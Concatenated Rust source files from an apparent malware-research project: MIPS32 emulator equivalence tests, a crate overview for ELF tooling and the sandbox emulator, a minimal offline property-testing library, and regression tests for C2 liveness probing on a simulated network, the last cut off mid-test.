        let (mut legacy, _) = setup(code.clone(), writable_text);
        let (mut fast, mut cache) = setup(code, writable_text);
        for _ in 0..10_000 {
            let a = legacy.run(slice);
            let b = fast.run_cached(slice, &mut cache);
            assert_eq!(a, b, "outcome diverged at retired={}", legacy.retired);
            assert_eq!(legacy.regs, fast.regs, "regs at retired={}", legacy.retired);
            assert_eq!(legacy.pc, fast.pc, "pc at retired={}", legacy.retired);
            assert_eq!(legacy.hi, fast.hi);
            assert_eq!(legacy.lo, fast.lo);
            assert_eq!(legacy.retired, fast.retired);
            assert_eq!(legacy.pending_branch(), fast.pending_branch());
            for seg_base in [0x0040_0000u32, 0x1000_0000] {
                if let Some((b, len, _)) = legacy.mem.segment_span(seg_base) {
                    assert_eq!(
                        legacy.mem.view(b, len).unwrap(),
                        fast.mem.view(b, len).unwrap(),
                        "memory image at {b:#x} diverged"
                    );
                }
            }
            if a.is_err() {
                return;
            }
        }
        panic!("program never terminated");
    }

    #[test]
    fn fused_li_pair_and_loop_counter_match_oracle() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0))
                .ins(Ins::Li(Reg::T1, 37))
                .label("loop")
                .ins(Ins::Addiu(Reg::T0, Reg::T0, 1))
                .ins(Ins::Addu(Reg::T2, Reg::T0, Reg::T0))
                .ins(Ins::Bne(Reg::T0, Reg::T1, "loop".into()))
                .ins(Ins::Break);
        });
        for slice in [1, 2, 3, 7, 1000] {
            lockstep(code.clone(), slice, false);
        }
    }

    #[test]
    fn li_syscall_superinstruction_yields_with_exact_state() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::V0, 4020))
                .ins(Ins::Syscall)
                .ins(Ins::Break);
        });
        // Budgets 1 and 2 force partial execution of the fused prelude.
        for slice in [1, 2, 3, 100] {
            lockstep(code.clone(), slice, false);
        }
    }

    #[test]
    fn all_alu_memory_and_hilo_ops_match_oracle() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0x1000_0000))
                .ins(Ins::Li(Reg::T1, 0xcafe_babe))
                .ins(Ins::Sw(Reg::T1, Reg::T0, 0))
                .ins(Ins::Sh(Reg::T1, Reg::T0, 8))
                .ins(Ins::Sb(Reg::T1, Reg::T0, 12))
                .ins(Ins::Lb(Reg::T2, Reg::T0, 0))
                .ins(Ins::Lbu(Reg::T3, Reg::T0, 0))
                .ins(Ins::Lh(Reg::T4, Reg::T0, 0))
                .ins(Ins::Lhu(Reg::T5, Reg::T0, 2))
                .ins(Ins::Lw(Reg::T6, Reg::T0, 0))
                .ins(Ins::Mult(Reg::T1, Reg::T6))
                .ins(Ins::Mflo(Reg::S0))
                .ins(Ins::Mfhi(Reg::S1))
                .ins(Ins::Divu(Reg::T1, Reg::T6))
                .ins(Ins::Slt(Reg::S2, Reg::T1, Reg::T6))
                .ins(Ins::Sltu(Reg::S3, Reg::T1, Reg::T6))
                .ins(Ins::Slti(Reg::S4, Reg::T1, -5))
                .ins(Ins::Sltiu(Reg::S5, Reg::T1, -5))
                .ins(Ins::Nor(Reg::S6, Reg::T1, Reg::T6))
                .ins(Ins::Sra(Reg::S7, Reg::T1, 7))
                .ins(Ins::Srl(Reg::T7, Reg::T1, 7))
                .ins(Ins::Sllv(Reg::T8, Reg::T1, Reg::T6))
                .ins(Ins::Srlv(Reg::T9, Reg::T1, Reg::T6))
                .ins(Ins::Break);
        });
        for slice in [1, 3, 1000] {
            lockstep(code.clone(), slice, false);
        }
    }

    #[test]
    fn jal_jr_and_regimm_match_oracle() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0xffff_fff0))
                .ins(Ins::Bltz(Reg::T0, "neg".into()))
                .ins(Ins::Break)
                .label("neg")
                .ins(Ins::Bgez(Reg::ZERO, "go".into()))
                .ins(Ins::Break)
                .label("go")
                .ins(Ins::Jal("fn".into()))
                .ins(Ins::Li(Reg::T5, 1))
                .ins(Ins::Break)
                .label("fn")
                .ins(Ins::Li(Reg::T4, 42))
                .ins(Ins::Jr(Reg::RA));
        });
        for slice in [1, 2, 5, 1000] {
            lockstep(code.clone(), slice, false);
        }
    }

    #[test]
    fn faults_match_oracle_exactly() {
        // Divide by zero.
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 1))
                .ins(Ins::Divu(Reg::T0, Reg::ZERO));
        });
        lockstep(code, 1000, false);
        // Unmapped load.
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0x0666_0000))
                .ins(Ins::Lw(Reg::T1, Reg::T0, 0));
        });
        lockstep(code, 1000, false);
        // Illegal instruction word.
        let mut code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 3));
        });
        code.extend_from_slice(&0xffff_ffffu32.to_be_bytes());
        lockstep(code, 1000, false);
        // Store to read-only text.
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0x0040_0000))
                .ins(Ins::Sw(Reg::T0, Reg::T0, 0));
        });
        lockstep(code, 1000, false);
        // Run off the end of the segment.
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 3));
        });
        lockstep(code, 1000, false);
    }

    #[test]
    fn taken_branch_with_loaded_delay_slot_uses_oracle() {
        // Hand-encode a beq whose delay slot is a real instruction (the
        // assembler never emits this): fold must not trigger.
        let words: [u32; 4] = [
            0x1000_0002, // beq $zero,$zero,+2
            0x2508_0005, // addiu $t0,$t0,5 (delay slot, must run)
            0x2508_0064, // skipped
            0x0000_000d, // break
        ];
        let code: Vec<u8> = words.iter().flat_map(|w| w.to_be_bytes()).collect();
        for slice in [1, 2, 3, 1000] {
            lockstep(code.clone(), slice, false);
        }
    }

    #[test]
    fn self_modifying_store_rebuilds_cache() {
        // Overwrite the word after the store (a break) with `addiu
        // $t7,$t7,1`, then fall through into it: the block engine must
        // re-decode and execute the new word, like the oracle does.
        let base: u32 = 0x0040_0000;
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, base))
                .ins(Ins::Li(Reg::T1, 0x25ef_0001)) // addiu $t7,$t7,1
                .ins(Ins::Sw(Reg::T1, Reg::T0, 24)) // patches word index 6
                .ins(Ins::Break) // placeholder at index 6, patched
                .ins(Ins::Break); // real end at index 7
        });
        for slice in [1, 2, 3, 1000] {
            lockstep(code.clone(), slice, true);
        }
    }

    #[test]
    fn cache_miss_outside_segment_falls_back_to_oracle() {
        // Jump into the data segment (unmapped as code → fetch fault).
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0x1000_0000)).ins(Ins::Jr(Reg::T0));
        });
        lockstep(code, 1000, false);
        // Misaligned jump target.
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 0x0040_0002)).ins(Ins::Jr(Reg::T0));
        });
        lockstep(code, 1000, false);
    }

    #[test]
    fn budget_zero_is_a_no_op() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T0, 1)).ins(Ins::Break);
        });
        let (mut cpu, mut cache) = setup(code, false);
        assert_eq!(cpu.run_cached(0, &mut cache), Ok(None));
        assert_eq!(cpu.retired, 0);
        assert_eq!(cpu.pc, 0x0040_0000);
    }

    #[test]
    fn fusion_catalog_is_applied() {
        let code = asm(|a| {
            a.ins(Ins::Li(Reg::T1, 0x12345678)) // LiPair
                .label("loop")
                .ins(Ins::Addiu(Reg::T0, Reg::T0, 1)) // CountBne head
                .ins(Ins::Bne(Reg::T0, Reg::T1, "loop".into()))
                .ins(Ins::Li(Reg::V0, 4001)) // LiSyscall
                .ins(Ins::Syscall);
        });
        let (cpu, cache) = setup(code, false);
        drop(cpu);
        assert!(matches!(cache.ops[0], Op::LiPair { rt: 9, .. }));
        assert!(matches!(cache.ops[2], Op::CountBne { .. }));
        // Component words keep their plain ops for mid-sequence entry.
        assert!(matches!(cache.ops[1], Op::Ori { .. }));
        assert!(matches!(cache.ops[3], Op::Bne { .. }));
        assert!(matches!(cache.ops[5], Op::LiSyscall { rt: 2, .. }));
        assert_eq!(cache.ops.last(), Some(&Op::Leave));
    }
}
