//! # malnet-mips — MIPS32 ELF tooling and an interpreting emulator
//!
//! The paper's sandbox (CnCHunter) activates MIPS 32-bit malware binaries
//! under QEMU. This crate is our QEMU substitute plus the binary tooling
//! needed to *produce* such binaries in the first place:
//!
//! * [`elf`] — an ELF32 big-endian MIPS executable writer and reader.
//!   `malnet-botgen` emits synthetic malware as real `ET_EXEC` ELF files;
//!   the sandbox and the static-analysis side both re-parse those files
//!   from bytes.
//! * [`asm`] — a two-pass MIPS32 assembler (structured instruction values,
//!   labels, pseudo-instructions) used to build the bot's interpreter stub.
//! * [`dis`] — a disassembler, used by tests (assembler/disassembler
//!   agreement) and by analyst tooling.
//! * [`mem`] — a segmented flat memory model.
//! * [`cpu`] — an interpreting MIPS32 CPU with genuine branch delay slots.
//!   Execution stops at `syscall` instructions, handing control to the
//!   embedder through [`cpu::StepOutcome`]; the sandbox services those
//!   syscalls against the simulated network (Linux o32 ABI, see [`sys`]).
//! * [`sys`] — the o32 syscall numbers and calling convention shared
//!   between the stub generator and the sandbox.
//! * [`block`] — a block-cached execution engine: `.text` is predecoded
//!   once into a flat op vector (with hot stub idioms fused into
//!   superinstructions) and dispatched directly, with [`cpu::Cpu::step`]
//!   retained as the bit-exact oracle for irregular control flow and
//!   self-modifying code.
//!
//! Design note: this is an *interpreter*, not a JIT — determinism and
//! instruction-budget enforcement matter more than speed. The block
//! engine keeps that contract: it is observationally identical to the
//! stepping oracle (same registers, memory, retired counts, faults),
//! just faster on the regular majority of instructions.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod asm;
pub mod block;
pub mod cpu;
pub mod dis;
pub mod elf;
pub mod mem;
pub mod sys;

pub use asm::{Assembler, Ins, Reg};
pub use block::ExecCache;
pub use cpu::{Cpu, CpuError, StepOutcome};
pub use elf::{ElfFile, ElfSegment};
pub use mem::Memory;
