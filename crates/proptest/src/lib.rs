//! Minimal, offline property-testing shim.
//!
//! The build environment has no access to crates.io, so this crate
//! provides the subset of the `proptest` 1.x API the workspace's
//! property tests use: the [`Strategy`] trait with `prop_map`, the
//! `proptest!` / `prop_oneof!` / `prop_assert*` macros, `any::<T>()`,
//! [`Just`], range strategies, tuple strategies, `collection::vec`, and
//! a tiny character-class regex string strategy.
//!
//! Differences from real proptest, deliberately accepted:
//!
//! * **No shrinking.** A failing case panics with the drawn values via
//!   the assertion message; cases are reproducible because every test's
//!   RNG is seeded from the test's name.
//! * **No persistence.** `.proptest-regressions` files are ignored.
//! * Case counts default to 64 and honor `ProptestConfig::with_cases`.

#![forbid(unsafe_code)]

use malnet_prng::{Rng, SeedableRng, StdRng};

/// Why a single property case did not pass (real proptest's type,
/// minus shrinking metadata). Test bodies may `return Err(...)` or use
/// `?`; the runner panics on `Fail` and skips the case on `Reject`.
#[derive(Debug, Clone)]
pub enum TestCaseError {
    /// The property is violated for the drawn input.
    Fail(String),
    /// The drawn input is invalid for the property; not a failure.
    Reject(String),
}

impl TestCaseError {
    /// A failing case with the given message.
    pub fn fail(msg: impl Into<String>) -> Self {
        TestCaseError::Fail(msg.into())
    }

    /// A rejected (skipped) case with the given message.
    pub fn reject(msg: impl Into<String>) -> Self {
        TestCaseError::Reject(msg.into())
    }
}

impl std::fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            TestCaseError::Fail(m) => write!(f, "fail: {m}"),
            TestCaseError::Reject(m) => write!(f, "reject: {m}"),
        }
    }
}

/// Per-case outcome; `proptest!` bodies are wrapped to return this.
pub type TestCaseResult = Result<(), TestCaseError>;

/// Runner configuration (`cases` is the only knob the shim honors).
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of random cases each property runs.
    pub cases: u32,
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 64 }
    }
}

impl ProptestConfig {
    /// A config running `cases` cases per property.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

/// Deterministic per-test RNG: seeded from the property's name so every
/// `cargo test` run draws the same cases.
pub fn test_rng(test_name: &str) -> StdRng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in test_name.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    StdRng::seed_from_u64(h)
}

/// A generator of test values.
pub trait Strategy {
    /// The value type produced.
    type Value;

    /// Draw one value.
    fn generate(&self, rng: &mut StdRng) -> Self::Value;

    /// Transform drawn values.
    fn prop_map<O, F: Fn(Self::Value) -> O>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
    {
        Map { inner: self, f }
    }

    /// Type-erase the strategy (used by `prop_oneof!`).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// A type-erased strategy.
pub type BoxedStrategy<V> = Box<dyn Strategy<Value = V>>;

impl<V> Strategy for BoxedStrategy<V> {
    type Value = V;
    fn generate(&self, rng: &mut StdRng) -> V {
        (**self).generate(rng)
    }
}

/// The result of [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut StdRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// Always produces a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut StdRng) -> T {
        self.0.clone()
    }
}

/// Types with a canonical "draw anything" strategy.
pub trait Arbitrary {
    /// Draw one arbitrary value.
    fn arbitrary(rng: &mut StdRng) -> Self;
}

macro_rules! impl_arbitrary {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> Self {
                rng.gen::<$t>()
            }
        }
    )*};
}
impl_arbitrary!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool, f32, f64);

/// `proptest::sample` (subset): drawing positions in runtime-sized
/// collections.
pub mod sample {
    use super::{Arbitrary, StdRng};
    use malnet_prng::Rng;

    /// An index into a collection whose length is only known at use
    /// time: draw one with `any::<Index>()`, project with
    /// [`Index::index`].
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct Index(u64);

    impl Index {
        /// Map this draw uniformly into `0..len`. Panics if `len == 0`,
        /// as in real proptest.
        pub fn index(&self, len: usize) -> usize {
            assert!(len > 0, "Index::index on an empty collection");
            (self.0 % len as u64) as usize
        }
    }

    impl Arbitrary for Index {
        fn arbitrary(rng: &mut StdRng) -> Self {
            Index(rng.gen())
        }
    }
}

/// Strategy produced by [`any`].
pub struct Any<A>(std::marker::PhantomData<A>);

/// The canonical strategy for a type: uniform over its representable
/// values (integers, bools, unit-interval floats).
pub fn any<A: Arbitrary>() -> Any<A> {
    Any(std::marker::PhantomData)
}

impl<A: Arbitrary> Strategy for Any<A> {
    type Value = A;
    fn generate(&self, rng: &mut StdRng) -> A {
        A::arbitrary(rng)
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f32, f64);

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut StdRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.generate(rng),)+)
            }
        }
    };
}
impl_tuple_strategy!(A);
impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);
impl_tuple_strategy!(A, B, C, D, E);
impl_tuple_strategy!(A, B, C, D, E, F);
impl_tuple_strategy!(A, B, C, D, E, F, G);
impl_tuple_strategy!(A, B, C, D, E, F, G, H);
impl_tuple_strategy!(A, B, C, D, E, F, G, H, I);
impl_tuple_strategy!(A, B, C, D, E, F, G, H, I, J);

/// Uniform choice between strategies (built by `prop_oneof!`).
pub struct OneOf<V> {
    arms: Vec<BoxedStrategy<V>>,
}

impl<V> OneOf<V> {
    /// Build from type-erased arms. Panics if `arms` is empty.
    pub fn new(arms: Vec<BoxedStrategy<V>>) -> Self {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        OneOf { arms }
    }
}

impl<V> Strategy for OneOf<V> {
    type Value = V;
    fn generate(&self, rng: &mut StdRng) -> V {
        let i = rng.gen_range(0..self.arms.len());
        self.arms[i].generate(rng)
    }
}

/// `&str` patterns act as string strategies, supporting the character-
/// class regex subset the workspace uses: literals, `\`-escapes, `.`
/// (any printable), `[a-z0-9_]` classes, and `{m}` / `{m,n}` / `?` /
/// `*` / `+` quantifiers (unbounded ones capped at 8 repetitions).
impl Strategy for &'static str {
    type Value = String;
    fn generate(&self, rng: &mut StdRng) -> String {
        regex_lite_generate(self, rng)
    }
}

fn regex_lite_generate(pattern: &str, rng: &mut StdRng) -> String {
    let chars: Vec<char> = pattern.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        // Parse one atom: an escaped char, a class, or a literal.
        let atom: Vec<char> = match chars[i] {
            '\\' => {
                i += 1;
                assert!(i < chars.len(), "dangling escape in pattern {pattern:?}");
                let c = chars[i];
                i += 1;
                vec![c]
            }
            '[' => {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == ']')
                    .expect("unclosed class")
                    + i;
                let mut set = Vec::new();
                let mut j = i + 1;
                while j < close {
                    if j + 2 < close && chars[j + 1] == '-' {
                        let (a, b) = (chars[j], chars[j + 2]);
                        for c in a..=b {
                            set.push(c);
                        }
                        j += 3;
                    } else {
                        set.push(chars[j]);
                        j += 1;
                    }
                }
                i = close + 1;
                set
            }
            '.' => {
                i += 1;
                (' '..='~').collect()
            }
            c => {
                i += 1;
                vec![c]
            }
        };
        // Parse an optional quantifier.
        let (lo, hi) = if i < chars.len() {
            match chars[i] {
                '?' => {
                    i += 1;
                    (0usize, 1usize)
                }
                '*' => {
                    i += 1;
                    (0, 8)
                }
                '+' => {
                    i += 1;
                    (1, 8)
                }
                '{' => {
                    let close = chars[i..]
                        .iter()
                        .position(|&c| c == '}')
                        .expect("unclosed quantifier")
                        + i;
                    let body: String = chars[i + 1..close].iter().collect();
                    i = close + 1;
                    match body.split_once(',') {
                        Some((m, n)) => (
                            m.trim().parse().expect("bad quantifier"),
                            n.trim().parse().expect("bad quantifier"),
                        ),
                        None => {
                            let m: usize = body.trim().parse().expect("bad quantifier");
                            (m, m)
                        }
                    }
                }
                _ => (1, 1),
            }
        } else {
            (1, 1)
        };
        let n = rng.gen_range(lo..=hi);
        for _ in 0..n {
            out.push(atom[rng.gen_range(0..atom.len())]);
        }
    }
    out
}

/// Collection strategies (`proptest::collection::vec`).
pub mod collection {
    use super::{StdRng, Strategy};
    use malnet_prng::Rng;

    /// Element-count specification: a fixed size or a half-open range.
    #[derive(Debug, Clone)]
    pub struct SizeRange {
        lo: usize,
        hi: usize,
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange { lo: n, hi: n + 1 }
        }
    }

    impl From<core::ops::Range<usize>> for SizeRange {
        fn from(r: core::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty vec size range");
            SizeRange {
                lo: r.start,
                hi: r.end,
            }
        }
    }

    impl From<core::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: core::ops::RangeInclusive<usize>) -> Self {
            SizeRange {
                lo: *r.start(),
                hi: *r.end() + 1,
            }
        }
    }

    /// Strategy for `Vec<S::Value>` with a drawn length.
    pub struct VecStrategy<S> {
        elem: S,
        size: SizeRange,
    }

    /// Vectors of values drawn from `elem`, with length in `size`.
    pub fn vec<S: Strategy>(elem: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            elem,
            size: size.into(),
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut StdRng) -> Vec<S::Value> {
            let n = rng.gen_range(self.size.lo..self.size.hi);
            (0..n).map(|_| self.elem.generate(rng)).collect()
        }
    }
}

/// The strategy namespace (subset).
pub mod strategy {
    pub use super::{BoxedStrategy, Just, Map, OneOf, Strategy};
}

/// Everything the tests import.
pub mod prelude {
    pub use super::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest, Arbitrary,
        BoxedStrategy, Just, ProptestConfig, Strategy, TestCaseError, TestCaseResult,
    };
    /// The `prop` namespace alias real proptest's prelude provides
    /// (`prop::sample::Index`, `prop::collection::vec`, ...).
    pub use crate as prop;
}

/// Define property tests. Each `fn name(pat in strategy, ...) { body }`
/// becomes a `#[test]` running `cases` random draws.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest!{ @impl ($cfg); $($rest)* }
    };
    (@impl ($cfg:expr); $($(#[$meta:meta])* fn $name:ident($($pat:pat in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let cfg: $crate::ProptestConfig = $cfg;
                let mut rng = $crate::test_rng(stringify!($name));
                for _case in 0..cfg.cases {
                    $(let $pat = $crate::Strategy::generate(&($strat), &mut rng);)+
                    // Bodies may `return Err(TestCaseError::...)` or use
                    // `?`, as with real proptest: wrap in a closure that
                    // yields a per-case result.
                    #[allow(clippy::redundant_closure_call)]
                    let outcome: $crate::TestCaseResult = (|| {
                        $body
                        Ok(())
                    })();
                    match outcome {
                        Ok(()) => {}
                        Err($crate::TestCaseError::Reject(_)) => continue,
                        Err($crate::TestCaseError::Fail(msg)) => {
                            panic!("proptest case failed: {msg}")
                        }
                    }
                }
            }
        )*
    };
    ($($rest:tt)*) => {
        $crate::proptest!{ @impl ($crate::ProptestConfig::default()); $($rest)* }
    };
}

/// Uniform choice among strategies producing the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($s:expr),+ $(,)?) => {
        $crate::strategy::OneOf::new(vec![$($crate::Strategy::boxed($s)),+])
    };
}

/// Property assertion (panics; no shrinking in the shim).
#[macro_export]
macro_rules! prop_assert {
    ($($t:tt)*) => { assert!($($t)*) };
}

/// Property equality assertion.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($t:tt)*) => { assert_eq!($($t)*) };
}

/// Property inequality assertion.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($t:tt)*) => { assert_ne!($($t)*) };
}

#[cfg(test)]
mod tests {
    use super::prelude::*;
    use super::*;

    #[test]
    fn regex_lite_matches_shape() {
        let mut rng = test_rng("regex_lite_matches_shape");
        for _ in 0..200 {
            let s = regex_lite_generate("[a-zA-Z0-9]{1,12}\\.sh", &mut rng);
            assert!(s.ends_with(".sh"), "{s}");
            let stem = &s[..s.len() - 3];
            assert!((1..=12).contains(&stem.len()), "{s}");
            assert!(stem.chars().all(|c| c.is_ascii_alphanumeric()), "{s}");
        }
    }

    #[test]
    fn ranges_tuples_and_vec_draw_in_bounds() {
        let mut rng = test_rng("ranges_tuples_and_vec");
        let strat = (0u8..32, 5usize..=9, any::<bool>());
        for _ in 0..100 {
            let (a, b, _c) = strat.generate(&mut rng);
            assert!(a < 32);
            assert!((5..=9).contains(&b));
        }
        let v = collection::vec(any::<u32>(), 31).generate(&mut rng);
        assert_eq!(v.len(), 31);
        let v2 = collection::vec(0u64..10, 1..4).generate(&mut rng);
        assert!((1..4).contains(&v2.len()));
        assert!(v2.iter().all(|&x| x < 10));
    }

    #[test]
    fn oneof_and_map_compose() {
        let mut rng = test_rng("oneof_and_map");
        let s = prop_oneof![Just(1u64), Just(100), (0u64..5).prop_map(|x| x + 1000)];
        let mut seen = std::collections::HashSet::new();
        for _ in 0..300 {
            let v = s.generate(&mut rng);
            assert!(v == 1 || v == 100 || (1000..1005).contains(&v));
            seen.insert(v.min(1000));
        }
        assert_eq!(seen.len(), 3, "all arms exercised: {seen:?}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        /// The macro itself: patterns bind, asserts run.
        #[test]
        fn macro_smoke(x in 1u32..100, (a, b) in (0u8..10, 0u8..10)) {
            prop_assert!((1..100).contains(&x));
            prop_assert_eq!(u32::from(a) * 2 / 2, u32::from(a));
            prop_assert_ne!(u32::from(b) + 1, 0);
        }
    }
}
