//! Regression tests for the `syn_retries` bugfix.
//!
//! With `syn_retries == 0` the daily liveness sweep sent exactly one
//! SYN per tracked C2; any transient loss window — an injected link
//! fault, a host mid-reboot — read as "C2 dead", and a couple of such
//! windows inside the tracking grace period erased a live C2's entry,
//! skewing the lifespan study (§3.2) toward short lives. The sweep now
//! re-probes misses with linear backoff, and the default configuration
//! ships with retries enabled.

use std::net::Ipv4Addr;

use malnet_core::pipeline::{liveness_probe_rounds, PipelineOpts};
use malnet_core::prober::ProbeConfig;
use malnet_netsim::net::Network;
use malnet_netsim::services::SinkService;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_telemetry::Telemetry;

const C2_IP: Ipv4Addr = Ipv4Addr::new(10, 9, 9, 9);
const C2_ADDR: &str = "10.9.9.9:23";

/// A live listener that happens to be unreachable exactly when the
/// sweep's first SYN lands, and back up two seconds later — the
/// one-packet loss window of the bug report.
fn net_with_flapping_listener(seed: u64) -> Network {
    let t0 = SimTime::from_day(0, 0);
    let mut net = Network::new(t0, seed);
    net.add_service_host(C2_IP, Box::new(SinkService::new(vec![23])));
    net.schedule_host_state(C2_IP, t0, false);
    net.schedule_host_state(C2_IP, t0 + SimDuration::from_secs(2), true);
    net
}

#[test]
fn syn_retry_survives_transient_loss() {
    let targets = vec![(C2_ADDR.to_string(), C2_IP, 23u16)];

    // Legacy single-probe behaviour: the flap reads as a dead C2.
    let tel0 = Telemetry::enabled();
    let mut net = net_with_flapping_listener(11);
    let live = liveness_probe_rounds(&mut net, &targets, 0, &tel0);
    assert!(
        live.is_empty(),
        "without retries the transient window should read as dead (got {live:?})"
    );

    // One retry sees through the window.
    let tel1 = Telemetry::enabled();
    let mut net = net_with_flapping_listener(11);
    let live = liveness_probe_rounds(&mut net, &targets, 1, &tel1);
    assert_eq!(
        live,
        vec![C2_ADDR.to_string()],
        "a single retry must survive the one-packet loss window"
    );
    assert!(
        tel1.report()
            .counter("pipeline.liveness_retries")
            .unwrap_or(0)
            >= 1,
        "the retry round should be visible in telemetry"
    );
}

/// Pin the `pipeline.liveness_retries` counter's semantics: one tick
/// per re-probe SYN actually sent. The legacy implementation charged
/// the whole pending set to the counter before deciding whether the
/// retry round would probe anyone, over-reporting retries whenever
/// targets had already answered; the counter now moves inside the
/// connection loop, so it cannot drift from the probes on the wire.
#[test]
fn liveness_retry_counter_counts_actual_reprobes() {
    let retries = |targets: &[(String, Ipv4Addr, u16)], net: &mut Network, syn_retries: u32| {
        let tel = Telemetry::enabled();
        liveness_probe_rounds(net, targets, syn_retries, &tel);
        tel.report()
            .counter("pipeline.liveness_retries")
            .unwrap_or(0)
    };

    // A listener that answers the first SYN: zero retries, no matter
    // how many the sweep is allowed.
    let live_target = vec![(C2_ADDR.to_string(), C2_IP, 23u16)];
    let t0 = SimTime::from_day(0, 0);
    let mut net = Network::new(t0, 31);
    net.add_service_host(C2_IP, Box::new(SinkService::new(vec![23])));
    assert_eq!(
        retries(&live_target, &mut net, 3),
        0,
        "a target that answered round 0 was charged a retry"
    );

    // A dead host: exactly one retry per allowed round, for each of
    // syn_retries ∈ {0, 1, 3}.
    for allowed in [0u32, 1, 3] {
        let mut net = Network::new(t0, 32);
        net.add_service_host(C2_IP, Box::new(SinkService::new(vec![23])));
        net.schedule_host_state(C2_IP, t0, false); // down for good
        assert_eq!(
            retries(&live_target, &mut net, allowed),
            u64::from(allowed),
            "dead-host retry count must equal the allowed rounds"
        );
    }

    // Mixed sweep: the live target answers round 0 and drops out of the
    // pending set; only the two dead ones are re-probed each round.
    let dead_a = Ipv4Addr::new(10, 9, 9, 10);
    let dead_b = Ipv4Addr::new(10, 9, 9, 11);
    let targets = vec![
        (C2_ADDR.to_string(), C2_IP, 23u16),
        ("10.9.9.10:23".to_string(), dead_a, 23u16),
        ("10.9.9.11:23".to_string(), dead_b, 23u16),
    ];
    let mut net = Network::new(t0, 33);
    net.add_service_host(C2_IP, Box::new(SinkService::new(vec![23])));
    for ip in [dead_a, dead_b] {
        net.add_service_host(ip, Box::new(SinkService::new(vec![23])));
        net.schedule_host_state(ip, t0, false);
    }
    assert_eq!(
        retries(&targets, &mut net, 2),
        4,
        "2 dead targets × 2 retry rounds must charge exactly 4 re-probes"
    );
}

/// A C2 that is simply down stays dead no matter how many retries the
/// sweep is allowed — retries must not manufacture liveness.
#[test]
fn syn_retry_does_not_revive_dead_hosts() {
    let targets = vec![(C2_ADDR.to_string(), C2_IP, 23u16)];
    let t0 = SimTime::from_day(0, 0);
    let mut net = Network::new(t0, 12);
    net.add_service_host(C2_IP, Box::new(SinkService::new(vec![23])));
    net.schedule_host_state(C2_IP, t0, false); // down for good
    let live = liveness_probe_rounds(&mut net, &targets, 3, &Telemetry::disabled());
    assert!(live.is_empty(), "retries revived a dead host: {live:?}");
}

/// The defaults ship with the fix: both the pipeline sweep and the
/// D-PC2 prober re-probe at least once before declaring death.
#[test]
fn retry_defaults_are_enabled() {
    assert!(
        PipelineOpts::default().syn_retries >= 1,
        "PipelineOpts::default() regressed to single-probe liveness"
    );
    assert!(
